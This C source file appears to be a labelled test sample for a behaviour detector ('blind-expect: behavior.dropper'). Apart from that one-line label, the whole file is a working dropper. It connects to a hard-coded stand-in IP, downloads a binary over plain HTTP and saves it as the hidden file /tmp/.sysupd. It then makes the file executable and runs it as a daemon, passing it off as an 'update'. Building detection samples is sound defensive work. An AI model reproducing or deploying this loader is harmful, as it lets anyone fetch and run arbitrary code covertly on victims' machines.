// blind-expect: behavior.dropper
// Fetches an "update" binary over plain HTTP, saves it under /tmp and launches it.
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#define UPDATE_HOST "203.0.113.45"
#define UPDATE_PORT 8080
#define LOCAL_PATH "/tmp/.sysupd"

int main(void)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0) {
        perror("socket");
        return 1;
    }

    struct sockaddr_in addr;
    memset(&addr, 0, sizeof addr);
    addr.sin_family = AF_INET;
    addr.sin_port = htons(UPDATE_PORT);
    inet_pton(AF_INET, UPDATE_HOST, &addr.sin_addr);
    if (connect(s, (struct sockaddr *)&addr, sizeof addr) < 0) {
        perror("connect");
        close(s);
        return 1;
    }

    const char *req = "GET /bin/agent HTTP/1.0\r\nHost: " UPDATE_HOST "\r\n\r\n";
    send(s, req, strlen(req), 0);

    int fd = open(LOCAL_PATH, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (fd < 0) {
        perror("open");
        close(s);
        return 1;
    }

    char buf[4096];
    ssize_t n;
    int header_done = 0;
    while ((n = recv(s, buf, sizeof buf, 0)) > 0) {
        char *p = buf;
        size_t len = (size_t)n;
        if (!header_done) {
            char *end = memmem(buf, (size_t)n, "\r\n\r\n", 4);
            if (!end)
                continue;
            p = end + 4;
            len = (size_t)n - (size_t)(p - buf);
            header_done = 1;
        }
        if (write(fd, p, len) < 0)
            break;
    }
    close(fd);
    close(s);

    chmod(LOCAL_PATH, 0755);
    execl(LOCAL_PATH, "sysupd", "--daemon", (char *)NULL);
    perror("execl");
    return 1;
}
